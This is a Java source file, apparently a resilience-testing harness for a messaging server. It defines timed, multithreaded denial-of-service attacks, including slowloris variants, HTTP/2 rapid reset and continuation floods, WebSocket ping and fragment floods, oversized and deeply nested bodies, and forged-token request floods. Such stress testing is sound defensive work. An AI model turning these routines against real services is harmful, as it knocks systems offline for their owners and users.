package abuse;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.ThreadLocalRandom;

/** Ways to do harm. Each has few threads, and ends by itself when its time is over. */
enum Attack {
  SLOW_HANDSHAKES(1) {
    @Override
    void hit(Target target) throws IOException {
      trickle(target, Line.upgrade(target.token).substring(0, 100), "", 500);
    }
  },
  SLOW_HEADERS(1) {
    @Override
    void hit(Target target) throws IOException {
      trickle(target, "GET / HTTP/1.1\r\nHost: localhost\r\n", "X: y\r\n", 500);
    }
  },
  SLOW_BODIES(1) {
    @Override
    void hit(Target target) throws IOException {
      trickle(target, target.post("attack:slow", "Content-Length: 60000"), "x", 500);
    }
  },
  CONNECT_FLOOD(4) {
    @Override
    void hit(Target target) throws IOException {
      try (Line line = new Line(target.url)) {
        line.send(Line.upgrade(target.token)).head();
      }
    }
  },
  SUBSCRIBE_FLOOD(4) {
    @Override
    void hit(Target target) throws IOException {
      try (Line line = new Line(target.url).upgraded(target.token)) {
        for (int i = 0; target.isOn() && i < 400; i++) {
          StringBuilder channels = new StringBuilder();
          for (int c = 0; c < 500; c++) {
            channels.append(c == 0 ? "" : ",").append("{\"channel\":\"attack:" + i + "-" + c + "\"}");
          }
          line.send(text("{\"id\":1,\"subscribe\":[" + channels + "]}"));
          line.drain();
        }
      }
    }
  },
  PUBLISH_FLOOD_OF_ONE_SUBJECT(6) {
    @Override
    void hit(Target target) throws IOException {
      repeat(target, target.post("attack:flood", "Content-Type: application/json\r\nContent-Length: 1") + "1");
    }
  },
  HUGE_BODIES(4) {
    @Override
    void hit(Target target) throws IOException {
      try (Line line = new Line(target.url)) {
        line.send(target.post("attack:huge", "Content-Length: 1000000000"));
        byte[] part = new byte[1 << 16];
        while (target.isOn()) {
          line.send(part);
        }
      }
    }
  },
  DEEP_JSON(4) {
    @Override
    void hit(Target target) throws IOException {
      String deep = "[".repeat(65_000);
      repeat(
          target,
          target.post("attack:deep", "Content-Type: application/json\r\nContent-Length: 65000") + deep);
    }
  },
  STALLED_READERS(1) {
    @Override
    void hit(Target target) throws IOException {
      List<Line> lines = new ArrayList<>();
      try {
        for (int i = 0; i < 300; i++) {
          Line line = Line.stalled(target.url);
          lines.add(line);
          if (i % 2 == 0) {
            line.send(target.get("/v1/channels/attack:large/messages", "Accept: text/event-stream\r\n"));
          } else {
            line.upgraded(target.token)
                .send(text("{\"id\":1,\"subscribe\":{\"channel\":\"attack:large\"}}"));
          }
        }
        String body = "x".repeat(60_000);
        try (Line publisher = new Line(target.url)) {
          while (target.isOn()) {
            publisher.send(target.post("attack:large", "Content-Length: 60000") + body).answer();
            pause(20);
          }
        }
      } finally {
        close(lines);
      }
    }
  },
  RAPID_RESET(2) {
    @Override
    void hit(Target target) throws IOException {
      byte[] head = Line.http2Get("/v1/channels/attack:reset/messages");
      try (Line line = new Line(target.url).http2()) {
        for (int stream = 1; target.isOn(); stream += 2) {
          line.send(Line.http2(1, 5, stream, head));
          line.send(Line.http2(3, 0, stream, new byte[] {0, 0, 0, 8}));
          line.drain();
        }
      }
    }
  },
  CONTINUATION_FLOOD(2) {
    @Override
    void hit(Target target) throws IOException {
      byte[] head = Line.http2Get("/");
      try (Line line = new Line(target.url).http2()) {
        line.send(Line.http2(1, 0, 1, head));
        while (target.isOn()) {
          line.send(Line.http2(9, 0, 1, head));
          line.drain();
        }
      }
    }
  },
  PING_FLOOD(4) {
    @Override
    void hit(Target target) throws IOException {
      byte[] ping = Line.webSocket(0x89, "0123456789".getBytes(UTF_8));
      try (Line line = new Line(target.url).upgraded(target.token)) {
        while (target.isOn()) {
          line.send(ping);
          line.drain();
        }
      }
    }
  },
  TINY_FRAGMENTS(4) {
    @Override
    void hit(Target target) throws IOException {
      byte[] next = Line.webSocket(0x00, new byte[] {'x'});
      try (Line line = new Line(target.url).upgraded(target.token)) {
        line.send(Line.webSocket(0x01, new byte[] {'x'}));
        while (target.isOn()) {
          line.send(next);
        }
      }
    }
  },
  WRONG_TOKENS(6) {
    @Override
    void hit(Target target) throws IOException {
      try (Line line = new Line(target.url)) {
        String[] parts = target.token.split("\\.");
        while (target.isOn()) {
          char[] signature = parts[2].toCharArray();
          signature[ThreadLocalRandom.current().nextInt(signature.length - 2)] ^= 1;
          String wrong = parts[0] + "." + parts[1] + "." + new String(signature).replaceAll("[^A-Za-z0-9_-]", "A");
          line.send("GET /v1/channels/attack:x HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + wrong + "\r\n\r\n")
              .answer();
        }
      }
    }
  },
  HISTORY_READS(6) {
    @Override
    void hit(Target target) throws IOException {
      repeat(target, target.get("/v1/channels/attack:flood/messages?last=256", ""));
    }
  };

  private final int threads;

  Attack(int threads) {
    this.threads = threads;
  }

  /** Once, or for as long as the target is to be hit; an exception is how the server ends it. */
  abstract void hit(Target target) throws IOException;

  String title() {
    return name().toLowerCase(Locale.ROOT).replace('_', ' ');
  }

  void run(URI url, String token, Duration time) throws InterruptedException {
    Target target = new Target(url, token, System.nanoTime() + time.toNanos());
    List<Thread> all = new ArrayList<>();
    for (int i = 0; i < threads; i++) {
      Thread thread = new Thread(() -> hitAgain(target));
      thread.start();
      all.add(thread);
    }
    for (Thread thread : all) {
      thread.join();
    }
  }

  private void hitAgain(Target target) {
    while (target.isOn()) {
      try {
        hit(target);
      } catch (IOException ended) {
        pause(1);
      }
    }
  }

  /** What is attacked, and for how long. */
  static final class Target {
    final URI url;
    final String token;
    private final long endNanos;

    Target(URI url, String token, long endNanos) {
      this.url = url;
      this.token = token;
      this.endNanos = endNanos;
    }

    boolean isOn() {
      return System.nanoTime() < endNanos;
    }

    String post(String channel, String headers) {
      return "POST /v1/channels/%s/messages HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n%s\r\n\r\n"
          .formatted(channel, token, headers);
    }

    String get(String path, String headers) {
      return "GET %s HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n%s\r\n"
          .formatted(path, token, headers);
    }
  }

  private static byte[] text(String frame) {
    return Line.webSocket(0x81, frame.getBytes(UTF_8));
  }

  /** Many connections on each of which a little comes each second; those that are cut come anew. */
  private static void trickle(Target target, String beginning, String drop, int connections)
      throws IOException {
    List<Line> lines = new ArrayList<>();
    try {
      while (target.isOn()) {
        while (lines.size() < connections && target.isOn()) {
          lines.add(new Line(target.url).send(beginning));
        }
        pause(500);
        lines.removeIf(line -> isCut(line, drop.isEmpty() ? "X" : drop));
      }
    } finally {
      close(lines);
    }
  }

  private static boolean isCut(Line line, String drop) {
    try {
      line.send(drop);
      return false;
    } catch (IOException cut) {
      return true;
    }
  }

  private static void repeat(Target target, String request) throws IOException {
    try (Line line = new Line(target.url)) {
      while (target.isOn()) {
        line.send(request).answer();
      }
    }
  }

  private static void close(List<Line> lines) throws IOException {
    for (Line line : lines) {
      line.close();
    }
  }

  private static void pause(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException over) {
      Thread.currentThread().interrupt();
    }
  }
}
